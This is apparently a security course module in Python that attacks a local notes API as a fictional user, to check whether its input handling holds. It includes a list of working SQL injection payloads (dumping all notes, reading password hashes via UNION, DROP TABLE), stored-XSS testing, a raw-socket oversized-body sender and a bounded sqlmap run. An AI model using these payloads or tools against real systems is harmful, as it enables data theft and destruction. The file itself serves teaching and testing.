"""Lesson 07: attacks on input handling, made by mallory with her own, perfectly valid token.

1. SQL injection in ``GET /notes/search?q=`` (ASVS 1.2.4): the search text closes the SQL
   string literal, and the rest of it is read as SQL. ``' OR 1=1 --`` returns every user's
   notes; a ``UNION`` reads the users table, password hashes included.
2. Stored XSS through ``POST /comments`` (ASVS 1.3.1): a comment carrying script is stored as
   sent and served by ``GET /comments`` to every reader; whatever page shows comments runs it.
3. An oversized body (API4:2023): a body of megabytes, streamed in chunks with no
   ``Content-Length``, that the service reads whole before anything looks at it.

Each ``run_*`` function sends real requests and judges the result.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from urllib.parse import urlsplit

import httpx2
from fastapi import FastAPI
from fastapi.testclient import TestClient

from lessons.attacks import Account, AttackResult, new_password, seed
from lessons.attacks.lesson03 import bearer, login
from lessons.sanitize import executable_markup

ATTACKER = "mallory"

def explain(response: httpx2.Response) -> None:
    """Print a response as ``METHOD /path -> status``; for a 422, each problem's location and
    message only. FastAPI's 422 body also echoes the submitted input, a password included
    (lesson 08 fixes that), so this never prints the body of a 422 as it is."""
    request = response.request
    print(f"{request.method} {request.url.raw_path.decode()[:60]} -> {response.status_code} "
          f"{response.reason_phrase}")
    if response.status_code == 422:
        for problem in response.json().get("detail", []):
            where = ".".join(str(part) for part in problem.get("loc", ()))
            print(f"    {where}: {problem.get('msg')}")
    elif response.status_code >= 400:
        print(f"    {response.json().get('detail')}")


# -- 1. SQL injection ------------------------------------------------------------------------

# Closes the LIKE '%...%' literal, adds a condition that is always true, and comments out the
# rest of the statement (including the owner check's ORDER BY tail).
DUMP_ALL_NOTES = "' OR 1=1 --"
# The notes query has five columns (id, owner, title, body, created_at); a UNION with five
# columns from the users table comes back shaped as notes.
READ_USERS_TABLE = "' UNION SELECT 0, username, email, password_hash, created_at FROM users --"

# Payloads the fixed search must treat as plain text: never another user's data, never a 5xx.
INJECTION_PAYLOADS: tuple[str, ...] = (
    DUMP_ALL_NOTES,
    READ_USERS_TABLE,
    "' OR '1'='1",
    "%' OR owner LIKE '%",
    "' OR owner='alice' --",
    "') OR ('a'='a",
    "'/**/OR/**/1=1/**/--",
    "' || (SELECT password_hash FROM users LIMIT 1) || '",
    "'; DROP TABLE notes; --",
    "1' ORDER BY 9 --",
    "\\' OR 1=1 --",
    '" OR ""="',
    "' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS INT) --",
    "\x00' OR 1=1 --",
    "%",
    "_",
    "' OR 1=1 LIMIT 1 OFFSET 1 --",
    "ʼ OR 1=1 --",
)


def search(client: httpx2.Client, token: str, q: str) -> httpx2.Response:
    return client.get("/notes/search", params={"q": q}, headers=bearer(token))


def others_in(response: httpx2.Response, attacker: str = ATTACKER) -> list[dict[str, object]]:
    """The rows of a search answer that are not the attacker's own notes."""
    if response.status_code != 200:
        return []
    return [row for row in response.json() if row.get("owner") != attacker]


def run_dump_notes(client: httpx2.Client, token: str) -> AttackResult:
    response = search(client, token, DUMP_ALL_NOTES)
    stolen = others_in(response)
    owners = sorted({str(row["owner"]) for row in stolen})
    return AttackResult(
        name=f"{ATTACKER} dumps every user's notes through ?q={DUMP_ALL_NOTES}",
        succeeded=bool(stolen),
        evidence=f"HTTP {response.status_code}, {len(stolen)} notes of others"
        + (f" (owners: {', '.join(owners)})" if owners else ""),
    )


def run_read_users(client: httpx2.Client, token: str) -> AttackResult:
    response = search(client, token, READ_USERS_TABLE)
    rows = others_in(response)
    # A users row comes back as a "note" whose body is the password hash.
    hashes = [row for row in rows if str(row.get("body", "")).startswith("$argon2")]
    # Only the hash's parameters are shown (algorithm, cost); its salt and digest are random.
    shown = ", ".join(f"{row['owner']} {_hash_head(str(row['body']))}..." for row in hashes[:3])
    return AttackResult(
        name=f"{ATTACKER} reads the users table (password hashes) with a UNION",
        succeeded=bool(hashes),
        evidence=f"HTTP {response.status_code}, {len(hashes)} password hashes"
        + (f": {shown}" if shown else ""),
    )


def _hash_head(phc: str) -> str:
    return "$".join(phc.split("$")[:4]) + "$"


@dataclass(frozen=True)
class ProbeResult:
    payload: str
    status: int
    leaked: int  # rows of other users in the answer


def probe(client: httpx2.Client, token: str,
          payloads: Iterable[str] = INJECTION_PAYLOADS) -> list[ProbeResult]:
    results = []
    for payload in payloads:
        response = search(client, token, payload)
        results.append(ProbeResult(payload, response.status_code, len(others_in(response))))
    return results


def run_injection_payloads(client: httpx2.Client, token: str,
                           payloads: Iterable[str] = INJECTION_PAYLOADS) -> AttackResult:
    """Succeeds if any payload reads another user's rows or makes the service fail (5xx)."""
    results = probe(client, token, payloads)
    leaks = [r for r in results if r.leaked]
    errors = [r for r in results if r.status >= 500]
    return AttackResult(
        name=f"{len(results)} injection payloads through ?q=",
        succeeded=bool(leaks or errors),
        evidence=f"{len(leaks)} read other users' data, {len(errors)} caused a 5xx, "
        f"{len(results) - len(leaks) - len(errors)} were treated as plain text",
    )


# -- 2. stored XSS ---------------------------------------------------------------------------


def post_comment(client: httpx2.Client, token: str, body: str) -> httpx2.Response:
    return client.post("/comments", json={"body": body}, headers=bearer(token))


def run_stored_xss(client: httpx2.Client, token: str, payloads: Sequence[str]) -> AttackResult:
    """Post every payload as a comment, read them back as any visitor would, and parse each
    stored comment for markup that could run script."""
    accepted = 0
    for payload in payloads:
        accepted += post_comment(client, token, payload).status_code == 201
    stored = client.get("/comments").json()
    live = [(comment["body"], findings) for comment in stored
            if (findings := executable_markup(comment["body"]))]
    example = f"; e.g. {live[0][0][:60]!r} ({live[0][1][0]})" if live else ""
    return AttackResult(
        name=f"stored XSS: {len(payloads)} payloads posted as comments",
        succeeded=bool(live),
        evidence=f"{accepted} accepted, {len(live)} of {len(stored)} served comments hold "
        f"executable markup{example}",
    )


# -- 3. an oversized body ----------------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    status: int
    bytes_sent: int
    body_finished: bool  # False: the server answered before the body was complete
    seconds: float


def _frame(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def stream_json_body(url: str, path: str, headers: dict[str, str], prefix: bytes,
                     filler: int, suffix: bytes, *, chunk: int = 16 * 1024,
                     pause_after: int | None = None, wait: float = 5.0) -> Upload:
    """POST a body of ``prefix + b"A" * filler + suffix`` with ``Transfer-Encoding: chunked``
    (no ``Content-Length``) over a raw socket, one chunk at a time.

    After ``pause_after`` body bytes the sender stops for up to ``wait`` seconds, with the body
    unfinished (a busy server needs time to answer too). A server that refuses the body
    answers during that pause; a server that reads bodies whole waits for the rest, which is
    then sent."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json",
            "Transfer-Encoding: chunked", "Connection: close",
            *(f"{name}: {value}" for name, value in headers.items())]
    started = time.perf_counter()
    sent = 0
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())

        def pieces() -> Iterable[bytes]:
            yield prefix
            left = filler
            while left > 0:
                yield b"A" * min(chunk, left)
                left -= chunk
            yield suffix

        paused = False
        for piece in pieces():
            if not paused and pause_after is not None and sent >= pause_after:
                paused = True
                if _answered_within(sock, wait):  # the server answered, body unfinished
                    return Upload(_status(_read_all(sock)), sent, False,
                                  time.perf_counter() - started)
            try:
                sock.sendall(_frame(piece))
            except (ConnectionResetError, BrokenPipeError):
                # The server closed the connection mid-body: it will not read the rest.
                return Upload(_status(_read_all(sock)), sent, False,
                              time.perf_counter() - started)
            sent += len(piece)
        sock.sendall(b"0\r\n\r\n")
        return Upload(_status(_read_all(sock)), sent, True, time.perf_counter() - started)


def _answered_within(sock: socket.socket, seconds: float) -> bool:
    """Whether the server sent anything (or closed) within ``seconds``; nothing is consumed."""
    sock.settimeout(seconds)
    try:
        sock.recv(1, socket.MSG_PEEK)
        return True
    except TimeoutError:
        return False
    finally:
        sock.settimeout(30)


def _read_all(sock: socket.socket) -> bytes:
    data = b""
    while True:
        try:
            part = sock.recv(65536)
        except (ConnectionResetError, TimeoutError):
            break
        if not part:
            break
        data += part
    return data


def _status(response: bytes) -> int:
    line = response.split(b"\r\n", 1)[0].split()
    return int(line[1]) if len(line) > 1 and line[1].isdigit() else 0


def announce_body(url: str, path: str, headers: dict[str, str], length: int,
                  wait: float = 5.0) -> int:
    """Send only a request head that announces a ``length``-byte body, send no body at all,
    and return the status the server answers within ``wait`` seconds (0: no answer)."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    head = [f"POST {path} HTTP/1.1", f"Host: {host}:{port}", "Content-Type: application/json",
            f"Content-Length: {length}", "Connection: close",
            *(f"{name}: {value}" for name, value in headers.items())]
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        if not _answered_within(sock, wait):
            return 0
        return _status(_read_all(sock))


def upload_big_note(url: str, token: str, size: int = 2 * 1024 * 1024,
                    pause_after: int = 64 * 1024 + 1) -> Upload:
    """A note whose body is ``size`` bytes, streamed to ``POST /notes`` without a length."""
    # The sender pauses as soon as it has sent more than the service's 64 KiB limit: a server
    # that refuses the body can answer then, and nothing more is sent into a closed connection.
    return stream_json_body(url, "/notes", bearer(token), b'{"title": "big", "body": "', size,
                            b'"}', pause_after=pause_after)


def run_oversized_body(url: str, token: str, size: int = 2 * 1024 * 1024) -> AttackResult:
    upload = upload_big_note(url, token, size)
    how = ("the server waited for all of it" if upload.body_finished
           else "the server answered with the body still unfinished")
    return AttackResult(
        name=f"stream a {size // 1024} KiB note body in chunks, with no Content-Length",
        # The layer holds when the server stops before the body is complete, whatever else
        # happens to that connection; the attack succeeds when the whole body was taken in.
        succeeded=upload.body_finished,
        evidence=f"HTTP {upload.status} after {upload.bytes_sent // 1024} KiB sent; {how}",
    )


# -- the scene -------------------------------------------------------------------------------


@contextmanager
def stage(app: FastAPI) -> Iterator[tuple[TestClient, dict[str, Account], str]]:
    """alice, bob and mallory (two private notes each, random passwords), a client, and
    mallory's token. The client is entered (one event loop and thread pool for every request,
    and the app's lifespan runs), so hundreds of requests do not open hundreds of threads."""
    people = seed(app, Account("alice", new_password()), Account("bob", new_password()),
                  Account(ATTACKER, new_password()))
    # raise_server_exceptions=False: a 500 is an answer the attacker sees, not a crash here.
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, people, login(client, people[ATTACKER])


# -- sqlmap, the standard tool, against a served app ---------------------------------------


@dataclass(frozen=True)
class SqlmapRun:
    injectable: bool
    seconds: float
    output: str


def run_sqlmap(url: str, token: str, query: str = "note", *, workdir: str,
               timeout: float = 120) -> SqlmapRun:
    """sqlmap against ``GET /notes/search?q=`` of a server on loopback, with a bearer token.

    Bounded on purpose: boolean-based blind technique only (enough to find this flaw), level 2
    (level 1 does not try the ``%'`` boundary of a LIKE pattern) and risk 1, SQLite named so
    no other database is probed, answers chosen automatically
    (``--batch``), and every file sqlmap writes kept in ``workdir``. ``query`` should match one
    of the caller's own note titles, so that "true" and "false" conditions differ."""
    import os
    import shutil
    import subprocess
    import sys
    from pathlib import Path

    sqlmap = (shutil.which("sqlmap", path=str(Path(sys.executable).parent))
              or shutil.which("sqlmap"))
    if sqlmap is None:
        raise RuntimeError("sqlmap is not installed: pip install -r requirements.txt")
    command = [sqlmap, "-u", f"{url}/notes/search?q={query}", "-p", "q",
               "--headers", f"Authorization: Bearer {token}", "--batch", "--dbms", "SQLite",
               "--technique", "B", "--level", "2", "--risk", "1", "--flush-session",
               "--disable-coloring", "--output-dir", str(Path(workdir) / "output")]
    # HOME in the private folder too: sqlmap keeps its history and settings under it.
    env = {**os.environ, "HOME": workdir}
    started = time.perf_counter()
    done = subprocess.run(command, capture_output=True, text=True, timeout=timeout, env=env,  # noqa: S603
                          check=False, stdin=subprocess.DEVNULL)
    output = done.stdout + done.stderr
    injectable = "sqlmap identified the following injection point" in output
    return SqlmapRun(injectable, time.perf_counter() - started, output)
